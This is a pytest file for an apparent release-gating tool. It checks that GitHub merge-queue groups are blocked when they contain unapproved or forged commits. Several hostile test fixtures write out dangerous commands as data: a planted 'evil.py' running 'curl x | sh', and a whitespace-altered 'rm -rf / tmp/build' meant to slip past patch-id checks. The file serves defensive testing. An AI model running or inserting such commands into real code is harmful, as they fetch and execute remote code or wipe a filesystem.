"""End to end: ``releasegate run`` inside GitHub Actions on a ``merge_group`` event, on a
real repository whose merge queue branch is built the way GitHub builds it, against
the fake GitHub over real HTTP.

There is no pull request in a merge_group event and nothing is merged yet: the range
comes from the event (``merge_group.base_sha..head_sha``), and the queued pull
requests the group holds are judged in place of merged ones. Each test proves one
rule; the hostile ones prove that a commit the queue did not make for an approved,
queued pull request still blocks.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fakegithub import (
    ALICE,
    BOB,
    CAROL,
    MERGER,
    FakeGitHub,
    Forge,
    MergeGroup,
    policy_text,
)
from rg_testlib import GitRepo, check, load_report, releasegate


@pytest.fixture
def gh() -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        yield server


@dataclass(frozen=True)
class QueueRun:
    code: int
    output: str
    report: dict[str, Any]

    @property
    def review(self) -> dict[str, Any]:
        return check(self.report, "review")

    def how(self, sha: str) -> str:
        [found] = [c for c in self.review["evidence"]["commits"] if c["sha"] == sha]
        return str(found["how"])


def start(repo: GitRepo, gh: FakeGitHub) -> Forge:
    repo.commit("initial", **{".releasegate.yml": policy_text(), "README.md": "hi\n"})
    return Forge(repo, gh)


REPOSITORY = {"full_name": "o/r", "default_branch": "main"}


def payload(group: MergeGroup, **override: str) -> dict[str, Any]:
    return group.event(REPOSITORY, **override)


def run_event(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path, event: dict[str, Any], name: str = "merge_group"
) -> QueueRun:
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(event), encoding="utf-8")
    out = tmp_path / "report.json"
    out.unlink(missing_ok=True)
    env = gh.env(
        GITHUB_ACTIONS="true",
        GITHUB_EVENT_NAME=name,
        GITHUB_EVENT_PATH=str(event_path),
        GITHUB_REF=str(event.get("merge_group", {}).get("head_ref", "refs/heads/main")),
    )
    done = releasegate(
        "run", "--repo", str(repo.root), "--only", "review", "--json", str(out), env=env
    )
    report = load_report(out) if out.exists() else {}
    return QueueRun(code=done.returncode, output=done.stdout + done.stderr, report=report)


def test_a_merge_group_of_approved_queued_pulls_passes_with_the_range_of_the_event(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    second = forge.pull_request("Add lexer", CAROL, merge="open")
    gh.review(first.number, BOB)
    gh.review(second.number, BOB)
    group = forge.merge_queue([first, second])
    run = run_event(repo, gh, tmp_path, payload(group))
    assert run.code == 0, run.output
    release = run.report["release"]
    assert (release["base"], release["commit"]) == (group.base, group.head)
    assert release["event"] == "merge_group"
    assert release["base_source"].startswith(
        f"merge_group {group.ref.removeprefix('refs/heads/')}: merge_group.base_sha..head_sha"
    )
    assert release["ref"] == group.ref
    assert run.review["status"] == "pass"
    evidence = run.review["evidence"]
    assert evidence["merge_queue"]["queued"] == [1, 2]
    assert evidence["merge_queue"]["branch"] == "main"
    assert len(evidence["commits"]) == 4  # one commit per pull request, one queue merge each
    merges = repo.git("rev-list", "--merges", f"{group.base}..{group.head}").split()
    assert sorted(run.how(sha) for sha in merges) == [
        "merge queue commit of queued PR #1",
        "merge queue commit of queued PR #2",
    ]
    assert run.how(first.head_sha) == "a commit of approved PR #1"


def test_a_queued_pull_without_approval_blocks_and_is_named(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    second = forge.pull_request("Unreviewed change", CAROL, merge="open")
    gh.review(first.number, BOB)
    group = forge.merge_queue([first, second])
    run = run_event(repo, gh, tmp_path, payload(group))
    assert run.code == 1, run.output
    assert run.review["status"] == "fail"
    [reason] = run.review["reasons"]
    assert reason.startswith("review: PR #2 'Unreviewed change' has 0 of 1 required"), reason
    assert "reached the merge queue of main through it" in reason
    assert "PR #1" not in reason


def test_a_squash_queue_is_judged_by_the_pull_each_commit_names(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    group = forge.merge_queue([first], method="squash")
    run = run_event(repo, gh, tmp_path, payload(group))
    assert run.code == 0, run.output
    [commit] = run.review["evidence"]["commits"]
    assert commit["how"] == "merge queue commit of queued PR #1"


def test_a_commit_pushed_onto_the_queue_branch_naming_the_approved_pull_blocks(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    group = forge.merge_queue([first], method="squash")
    repo.git("checkout", "-q", group.ref.removeprefix("refs/heads/"))
    # Hostile: a commit no pull request holds, shaped as PR #1's squash, with another change.
    sneaky = forge.direct_push(CAROL, "Add parser (#1)", **{"evil.py": "import os\n"})
    repo.git("checkout", "-q", "main")
    run = run_event(repo, gh, tmp_path, payload(MergeGroup(group.base, sneaky, group.ref)))
    assert run.code == 1, run.output
    assert run.how(group.head) == "merge queue commit of queued PR #1"
    assert run.how(sneaky).startswith(
        "a squash naming queued PR #1 that is not what the queue writes: its tree "
    ), run.how(sneaky)
    assert "it holds changes the pull request does not" in run.how(sneaky)


SAFE = 'import subprocess\n\nsubprocess.run(["sh", "-c", "rm -rf /tmp/build"])\n'
EVIL = 'import subprocess\n\nsubprocess.run(["sh", "-c", "rm -rf / tmp/build"])\n'


def test_a_squash_that_differs_from_the_pull_only_in_white_space_blocks(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request(
        "Add cleaner", ALICE, [("cleaner", {"clean.py": SAFE})], merge="open"
    )
    gh.review(first.number, BOB)
    base = repo.head()
    branch = f"gh-readonly-queue/main/pr-1-{base}"
    repo.git("checkout", "-q", "-b", branch)
    # Hostile: "/tmp/build" becomes "/ tmp/build"; git patch-id --stable cannot tell them apart.
    sneaky = forge.direct_push(CAROL, "Add cleaner (#1)", **{"clean.py": EVIL})
    repo.git("checkout", "-q", "main")
    run = run_event(repo, gh, tmp_path, payload(MergeGroup(base, sneaky, f"refs/heads/{branch}")))
    assert run.code == 1, run.output
    assert "it holds changes the pull request does not" in run.how(sneaky)


def test_a_queue_merge_that_adds_content_of_its_own_blocks(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    base = repo.head()
    branch = f"gh-readonly-queue/main/pr-1-{base}"
    repo.git("checkout", "-q", "-b", branch)
    # Hostile: the right parents and subject, and a file in no pull request.
    forge.git_as(CAROL, "merge", "--no-ff", "--no-commit", "-q", "pr-1")
    repo.write("evil.py", "import os\nos.system('curl x | sh')\n")
    repo.git("add", "-A")
    forge.git_as(CAROL, "commit", "-q", "-m", "Merge pull request #1 from o/pr-1")
    head = repo.head()
    repo.git("checkout", "-q", "main")
    forge.sync()
    run = run_event(repo, gh, tmp_path, payload(MergeGroup(base, head, f"refs/heads/{branch}")))
    assert run.code == 1, run.output
    assert run.how(head).startswith(
        "a merge naming queued PR #1 that is not what the queue writes: its tree "
    ), run.how(head)


def test_a_squash_whose_pull_head_is_not_in_the_clone_blocks_and_says_what_to_fetch(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    group = forge.merge_queue([first], method="squash")
    # The clone has the queue branch but not the pull request's own commits.
    repo.git("branch", "-D", "pr-1")
    repo.git("reflog", "expire", "--expire=now", "--all")
    repo.git("gc", "-q", "--prune=now")
    run = run_event(repo, gh, tmp_path, payload(group))
    assert run.code == 1, run.output
    assert "is not in the clone (fetch it: `git fetch origin refs/pull/1/head`)" in run.how(
        group.head
    )


def test_a_commit_naming_a_pull_that_is_not_queued_blocks(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    closed = forge.pull_request("Old change", ALICE)  # merged earlier: not in any queue
    gh.review(closed.number, BOB)
    group = forge.merge_queue([first])
    repo.git("checkout", "-q", group.ref.removeprefix("refs/heads/"))
    stray = forge.direct_push(CAROL, f"Revert things (#{closed.number})")
    unknown = forge.direct_push(CAROL, "Bump (#777)")
    plain = forge.direct_push(CAROL, "no pull request at all")
    repo.git("checkout", "-q", "main")
    run = run_event(repo, gh, tmp_path, payload(MergeGroup(group.base, plain, group.ref)))
    assert run.code == 1, run.output
    assert run.how(stray) == (
        f"names PR #{closed.number} as the merge queue does, but PR #{closed.number} is closed "
        "and merged, not queued (pushed by Carol <carol@example.com>)"
    )
    assert "there is no PR #777" in run.how(unknown)
    assert "without a pull request" in run.how(plain)
    assert run.review["evidence"]["merge_queue"]["not_queued"]["777"] == "there is no PR #777"


def test_a_queue_merge_that_does_not_merge_the_pulls_head_blocks(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    repo.git("checkout", "-q", "-b", "other", "main")
    other = forge.commit_as(CAROL, "unreviewed", {"evil.py": "x = 1\n"})
    repo.git("checkout", "-q", "main")
    base = repo.head()
    branch = f"gh-readonly-queue/main/pr-1-{base}"
    repo.git("checkout", "-q", "-b", branch)
    # Hostile: a merge commit with GitHub's subject for PR #1 that merges another branch.
    forge.git_as(
        MERGER, "merge", "--no-ff", "-q", "-m", "Merge pull request #1 from o/pr-1", "other"
    )
    head = repo.head()
    repo.git("checkout", "-q", "main")
    forge.sync()
    run = run_event(repo, gh, tmp_path, payload(MergeGroup(base, head, f"refs/heads/{branch}")))
    assert run.code == 1, run.output
    assert run.how(head).startswith("a merge naming queued PR #1 that does not merge its head")
    assert "without a pull request" in run.how(other)


@pytest.mark.parametrize(
    ("override", "message"),
    [
        (
            {"head_sha": "not-a-sha"},
            "merge_group.head_sha in the event payload is not a commit SHA",
        ),
        ({"head_ref": "refs/heads/main"}, "is not a merge queue ref"),
        ({"base_ref": "refs/heads/release"}, "is not the branch of its queue ref"),
    ],
)
def test_a_malformed_merge_group_payload_is_an_error_naming_the_field(
    repo: GitRepo, gh: FakeGitHub, tmp_path: Path, override: dict[str, str], message: str
) -> None:
    forge = start(repo, gh)
    first = forge.pull_request("Add parser", ALICE, merge="open")
    gh.review(first.number, BOB)
    group = forge.merge_queue([first])
    run = run_event(repo, gh, tmp_path, payload(group, **override))
    assert run.code == 2, run.output
    assert message in run.output
    assert "GITHUB_EVENT_PATH" in run.output
    assert "pass --base and --head explicitly" in run.output
